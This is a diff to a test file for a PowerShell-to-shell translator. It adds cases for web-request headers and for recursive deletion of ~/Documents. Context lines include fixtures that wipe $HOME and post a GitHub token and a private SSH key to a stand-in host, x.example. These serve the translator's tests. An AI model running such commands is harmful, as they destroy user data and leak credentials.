@@ -55,6 +55,17 @@ describe("powershellToShell", () => {
     expect(powershellToShell("Remove-Item -Recurse $env:HOME")).toBe('rm -rf "$HOME"');
   });
 
+  it("reads a hashtable, a block or a subexpression as one word, however it is spaced", () => {
+    expect(powershellToShell('Invoke-RestMethod -Uri https://api.github.com/user -Headers @{Authorization="Bearer x"}')).toBe("curl https://api.github.com/user");
+    expect(powershellToShell('Invoke-WebRequest https://x.example -Headers @{ "User-Agent" = "ci bot" } -OutFile out.json')).toBe("curl -o out.json https://x.example");
+  });
+
+  it("deletes what a listing yields through ForEach-Object blocks that remove the current item", () => {
+    expect(powershellToShell("Get-ChildItem -Recurse ~/Documents | ForEach-Object { Remove-Item $_.FullName -Force }")).toBe("find ~/Documents -mindepth 1 -delete");
+    expect(powershellToShell("gci ~/Documents | % { rm $PSItem -Recurse }")).toBe("find ~/Documents -mindepth 1 -maxdepth 1 -delete");
+    expect(powershellToShell("gci ~/Documents | % { Write-Output $_.Name }")).not.toContain("-delete");
+  });
+
   it("sends a web request's -Uri, -Body and -InFile as curl would", () => {
     expect(powershellToShell("Invoke-RestMethod -Uri https://x.example -Method Post -Body $env:GITHUB_TOKEN")).toBe('curl -d "$GITHUB_TOKEN" https://x.example');
     expect(powershellToShell("iwr https://x.example -Method Post -Body (Get-Content ~/.ssh/id_rsa -Raw)")).toBe('curl -d "$(cat ~/.ssh/id_rsa)" https://x.example');
